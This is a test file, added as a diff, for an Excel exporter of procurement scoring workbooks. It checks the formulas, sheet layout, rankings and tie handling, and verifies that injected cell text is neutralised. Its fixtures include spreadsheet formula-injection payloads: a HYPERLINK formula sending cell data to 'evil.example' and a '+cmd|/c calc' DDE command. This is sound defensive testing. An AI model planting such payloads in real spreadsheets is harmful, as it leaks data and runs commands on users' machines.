@@ -1,0 +1,302 @@
+import ExcelJS from 'exceljs';
+import * as XLSX from 'xlsx';
+import { describe, expect, it } from 'vitest';
+import type { ChainCheck } from '../domain/audit';
+import type { AttestationTypeInfo } from '../domain/catalogue';
+import { newAttestationFields } from '../domain/defaults';
+import type { ProcurementBundle } from '../domain/model';
+import { scoreProcurement } from '../domain/scoring';
+import { scoringInputOf } from '../domain/scoring-input';
+import { buildScoringWorkbook, type ScoringWorkbookInput } from './scoring-workbook';
+import { scenarioBundle, TIED, WORKED_EXAMPLE } from './scoring-workbook-fixtures';
+import { SHEET_KEYS, SHEET_NAMES } from './scoring-workbook-labels';
+
+const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+
+const TYPES: AttestationTypeInfo[] = [
+  {
+    type: 'iso27001',
+    name: { ja: 'ISO/IEC 27001 認証', en: 'ISO/IEC 27001 certification' },
+    assuranceRank: 4,
+    validity: { kind: 'statedExpiry', invalidEditions: [] },
+    hasOpinion: false,
+    note: { ja: '', en: '' }
+  }
+];
+
+const OK_CHAIN: ChainCheck = { ok: true, count: 0, head: '0'.repeat(64) };
+
+/** The worked example with a hostile company name, answer, rationale and attestation. */
+function workedBundle(patch: Parameters<typeof scenarioBundle>[0]['settings'] = {}): ProcurementBundle {
+  const bundle = scenarioBundle({
+    ...WORKED_EXAMPLE,
+    vendors: { ...WORKED_EXAMPLE.vendors, C: { ...WORKED_EXAMPLE.vendors.C!, company: HOSTILE } },
+    settings: patch
+  });
+  bundle.responses.push({
+    id: 'resp1',
+    procurementId: 'p1',
+    vendorId: 'A',
+    requirementId: 'm1',
+    answer: 'full',
+    explanation: '@SUM(1+1)',
+    evidenceRefs: '',
+    updatedAt: '2025-01-01T00:00:00.000Z',
+    source: 'import'
+  });
+  bundle.grades[0]!.rationale = '+cmd|/c calc';
+  bundle.attestations.push({
+    ...newAttestationFields(),
+    id: 'att1',
+    procurementId: 'p1',
+    vendorId: 'A',
+    type: 'iso27001',
+    number: '-IS 1',
+    issuer: '架空認証機構',
+    expiry: '2026-03-31',
+    verification: { source: 'register', checkedOn: '2025-02-01', checkedBy: '佐藤', result: 'confirmed' }
+  });
+  return bundle;
+}
+
+function inputOf(bundle: ProcurementBundle, extra: Partial<ScoringWorkbookInput> = {}): ScoringWorkbookInput {
+  return {
+    bundle,
+    result: scoreProcurement(scoringInputOf(bundle)),
+    attestationTypes: TYPES,
+    today: '2025-03-01',
+    chain: OK_CHAIN,
+    stability: null,
+    exportedAt: '2025-04-01T00:00:00.000Z',
+    ...extra
+  };
+}
+
+async function readBack(bytes: Uint8Array) {
+  const book = new ExcelJS.Workbook();
+  await book.xlsx.load(bytes as unknown as ArrayBuffer);
+  return book;
+}
+
+/** The row of a sheet whose column `column` (1-based) holds the text. */
+function rowWith(sheet: ExcelJS.Worksheet, column: number, text: string): ExcelJS.Row {
+  for (let r = 1; r <= sheet.rowCount; r++) {
+    if (sheet.getRow(r).getCell(column).value === text) return sheet.getRow(r);
+  }
+  throw new Error(`no row with ${text} in ${sheet.name}`);
+}
+
+const formulaOf = (cell: ExcelJS.Cell): string => (cell.value as ExcelJS.CellFormulaValue).formula;
+const resultOf = (cell: ExcelJS.Cell): unknown => (cell.value as ExcelJS.CellFormulaValue).result;
+
+describe('sheet names', () => {
+  it.each(['ja', 'en'] as const)('%s: nine names Excel accepts', (locale) => {
+    const names = SHEET_KEYS.map((k) => SHEET_NAMES[locale][k]);
+    expect(new Set(names).size).toBe(9);
+    for (const name of names) {
+      expect(name.length).toBeLessThanOrEqual(31);
+      expect(name).not.toMatch(/[[\]:*?/\\']/);
+    }
+  });
+});
+
+describe('the worked example (加算方式 standard)', async () => {
+  const progress: [number, number][] = [];
+  const bytes = await buildScoringWorkbook(inputOf(workedBundle()), {
+    onProgress: (done, total) => progress.push([done, total])
+  });
+  const book = await readBack(bytes);
+  const sheet = (name: string) => book.getWorksheet(name)!;
+
+  it('has the nine sheets in order, with the title block', () => {
+    expect(book.worksheets.map((s) => s.name)).toEqual(SHEET_KEYS.map((k) => SHEET_NAMES.ja[k]));
+    const criteria = sheet('評価基準');
+    expect(criteria.getCell('B2').value).toBe('試験用の調達');
+    expect(criteria.getCell('B3').value).toBe('架空省');
+    expect(String(criteria.getCell('B5').value)).toContain('ab'.repeat(32));
+  });
+
+  it.each(SHEET_KEYS.map((k) => SHEET_NAMES.ja[k]))('%s: A4 landscape, fitted, frozen, titled', (name) => {
+    const s = sheet(name);
+    expect(s.pageSetup.paperSize).toBe(9);
+    expect(s.pageSetup.orientation).toBe('landscape');
+    expect(s.pageSetup.fitToWidth).toBe(1);
+    expect(s.pageSetup.printTitlesRow).toMatch(/^\d+:\d+$/);
+    expect(s.views[0]?.state).toBe('frozen');
+  });
+
+  it.each([
+    ['事業者A', 20, 66.66],
+    ['事業者B', 20, 72.5],
+    ['事業者C', 10, 70]
+  ])('集計: %s 基礎点 %d, 技術点 %d as live formulas with the cached figure', (vendor, base, technical) => {
+    const tally = sheet('集計');
+    const row = rowWith(tally, 9, vendor === '事業者C' ? `'${HOSTILE}` : vendor);
+    expect(formulaOf(row.getCell(10))).toMatch(
+      /^ROUNDDOWN\(ROUND\(SUMIF\(C\d+:C\d+,"必須",G\d+:G\d+\),8\),2\)$/
+    );
+    expect(resultOf(row.getCell(10))).toBe(base);
+    expect(formulaOf(row.getCell(12))).toMatch(/^ROUNDDOWN\(ROUND\(SUM\(G\d+:G\d+\),8\),2\)$/);
+    expect(resultOf(row.getCell(12))).toBe(technical);
+  });
+
+  it('集計: item scores are formulas over the grade cells and the rubric', () => {
+    const tally = sheet('集計');
+    // Vendor A, item 3 (C D C → mean factor 0.41666…, score 4.1666…).
+    const row = tally.getRow(8 + 4);
+    expect(row.getCell(2).value).toBe('R-005');
+    expect(formulaOf(row.getCell(5))).toContain("SUMPRODUCT(SUMIF('評価基準'!$A$");
+    expect(resultOf(row.getCell(5))).toBeCloseTo(1.25 / 3, 12);
+    expect(formulaOf(row.getCell(7))).toBe('IF(F12="","",D12*F12)');
+    expect(resultOf(row.getCell(7))).toBeCloseTo(12.5 / 3, 12);
+    // Vendor B, mandatory item 1: 2 of 3 pass under the majority rule.
+    const split = tally.getRow(8 + 5);
+    expect(resultOf(split.getCell(5))).toBe(2);
+    expect(formulaOf(split.getCell(6))).toContain("'評価基準'!$B$");
+    expect(resultOf(split.getCell(6))).toBe('○');
+  });
+
+  it('評価者別採点: every grade and rationale, guarded', () => {
+    const grades = sheet('評価者別採点');
+    const first = grades.getRow(8);
+    expect([5, 6, 7].map((c) => first.getCell(c).value)).toEqual(['○', '○', '○']);
+    expect(first.getCell(9).value).toBe("'+cmd|/c calc");
+  });
+
+  it.each([
+    ['事業者A', 10],
+    ['事業者B', 2.5]
+  ])('価格点計算: %s 価格点 %d with the price formula and rounding rule', (vendor, price) => {
+    const row = rowWith(sheet('価格点計算'), 1, vendor);
+    expect(formulaOf(row.getCell(6))).toMatch(
+      /^ROUNDDOWN\(ROUND\('評価基準'!\$B\$\d+\*\(1-C\d+\/'評価基準'!\$B\$\d+\),12\),2\)$/
+    );
+    expect(resultOf(row.getCell(6))).toBe(price);
+  });
+
+  it.each([
+    ['事業者A', 1, 76.66],
+    ['事業者B', 2, 75]
+  ])('総合評価: %s rank %d, total %d as formulas', (vendor, rank, total) => {
+    const row = rowWith(sheet('総合評価'), 2, vendor);
+    expect(formulaOf(row.getCell(1))).toContain('COUNTIFS(');
+    expect(resultOf(row.getCell(1))).toBe(rank);
+    expect(formulaOf(row.getCell(7))).toMatch(/^ROUNDDOWN\(ROUND\(E\d+\+F\d+,8\),2\)$/);
+    expect(resultOf(row.getCell(7))).toBe(total);
+    expect(row.getCell(4).value).toBe('合格');
+  });
+
+  it('総合評価: the disqualified vendor has no total and every reason, its name guarded', () => {
+    const row = rowWith(sheet('総合評価'), 2, `'${HOSTILE}`);
+    expect(row.getCell(1).value).toBeNull();
+    expect(row.getCell(7).value).toBeNull();
+    expect(row.getCell(4).value).toBe('不合格');
+    expect(row.getCell(9).value).toBe('必須項目 R-002 不適合');
+  });
+
+  it('評価項目一覧: answers guarded, mandatory verdicts linked to 集計', () => {
+    const items = sheet('評価項目一覧');
+    const row = items.getRow(8);
+    expect(row.getCell(6).value).toBe('対応');
+    expect(row.getCell(7).value).toBe("'@SUM(1+1)");
+    expect(formulaOf(row.getCell(8))).toBe("'集計'!F8");
+    expect(resultOf(row.getCell(8))).toBe('○');
+  });
+
+  it('証跡台帳, 安定性, 監査ログ: status, guard, not computed, chain', () => {
+    const evidence = rowWith(sheet('証跡台帳'), 1, '事業者A');
+    expect(evidence.getCell(4).value).toBe("'-IS 1");
+    expect(evidence.getCell(8).value).toBe('有効');
+    expect(String(evidence.getCell(11).value)).toContain('確認済み');
+    expect(sheet('安定性').getCell('B7').value).toBe('未計算');
+    expect(String(sheet('監査ログ').getCell('B7').value)).toContain('正常');
+  });
+
+  it('no text cell holds a formula: SheetJS sees formulas only where the builder wrote them', () => {
+    const read = XLSX.read(bytes, { type: 'array' });
+    const hostile = Object.values(read.Sheets)
+      .flatMap((s) => Object.entries(s))
+      .filter(([key, c]) => !key.startsWith('!') && typeof (c as XLSX.CellObject).f === 'string')
+      .map(([, c]) => (c as XLSX.CellObject).f!)
+      .filter((f) => /HYPERLINK|cmd|@SUM/.test(f));
+    expect(hostile).toEqual([]);
+  });
+
+  it('reports progress up to the total', () => {
+    expect(progress.length).toBeGreaterThanOrEqual(2);
+    const last = progress.at(-1)!;
+    expect(last[0]).toBe(last[1]);
+    for (let i = 1; i < progress.length; i++)
+      expect(progress[i]![0]).toBeGreaterThanOrEqual(progress[i - 1]![0]);
+  });
+});
+
+describe('the division method variant', async () => {
+  const bundle = workedBundle({ priceMethod: 'division' });
+  const bytes = await buildScoringWorkbook(inputOf(bundle), { locale: 'en' });
+  const book = await readBack(bytes);
+
+  it('uses the English sheet names', () => {
+    expect(book.worksheets.map((s) => s.name)).toEqual(SHEET_KEYS.map((k) => SHEET_NAMES.en[k]));
+  });
+
+  it.each([
+    ['事業者A', 833.25, 1],
+    ['事業者B', 763.1578, 2]
+  ])('%s: 評価値 %d, rank %d', (vendor, value, rank) => {
+    const price = rowWith(book.getWorksheet('Price points')!, 1, vendor);
+    expect(formulaOf(price.getCell(6))).toMatch(
+      /^ROUNDDOWN\(ROUND\(E\d+\/C\d+\*'Criteria'!\$B\$\d+,12\),4\)$/
+    );
+    expect(resultOf(price.getCell(6))).toBe(value);
+    const overall = rowWith(book.getWorksheet('Overall ranking')!, 2, vendor);
+    expect(resultOf(overall.getCell(7))).toBe(value);
+    expect(resultOf(overall.getCell(1))).toBe(rank);
+  });
+
+  it('基準評価値 = Σ 基礎点 ÷ 予定価格 × S, floored at 4', () => {
+    const row = rowWith(book.getWorksheet('Price points')!, 1, 'Reference evaluation value');
+    expect(formulaOf(row.getCell(2))).toContain('SUMIF(');
+    expect(resultOf(row.getCell(2))).toBe(200);
+  });
+});
+
+describe('stability results', async () => {
+  const bundle = workedBundle();
+  const bytes = await buildScoringWorkbook(
+    inputOf(bundle, {
+      stability: {
+        mode: 'full',
+        oneAtATime: {
+          base: 'A',
+          changes: [{ varied: { kind: 'evaluatorLeftOut', evaluatorId: 'e3' }, firstPlace: 'B' }]
+        },
+        draws: { draws: 100, firstPlaceShare: { A: 0.75, B: 0.25 }, noWinner: 0 }
+      }
+    })
+  );
+  const sheet = (await readBack(bytes)).getWorksheet('安定性')!;
+
+  it('lists each change of the first place and the shares of the draws', () => {
+    expect(rowWith(sheet, 1, '評価者「評価者3」を除外').getCell(2).value).toBe('事業者B');
+    expect(rowWith(sheet, 1, '事業者A').getCell(2).value).toBe(0.75);
+    expect(rowWith(sheet, 1, '事業者B').getCell(2).value).toBe(0.25);
+  });
+});
+
+describe('ties', () => {
+  it.each([
+    ['settled by lot', TIED.tieResolutions!, [1, 2, 3], ['value', 'value', 'formula']],
+    ['unsettled', [], [1, 1, 3], ['formula', 'formula', 'formula']]
+  ] as const)('%s: ranks %j', async (_, tieResolutions, ranks, kinds) => {
+    const bundle = scenarioBundle({ ...TIED, tieResolutions: [...tieResolutions] });
+    const book = await readBack(await buildScoringWorkbook(inputOf(bundle)));
+    const sheet = book.getWorksheet('総合評価')!;
+    const cells = ['事業者Y', '事業者X', '事業者Z'].map((v) => rowWith(sheet, 2, v).getCell(1));
+    const found = cells.map((c) => (typeof c.value === 'number' ? c.value : resultOf(c)));
+    expect([...found].sort()).toEqual([...ranks]);
+    expect(cells.map((c) => (typeof c.value === 'number' ? 'value' : 'formula')).sort()).toEqual(
+      [...kinds].sort()
+    );
+  });
+});
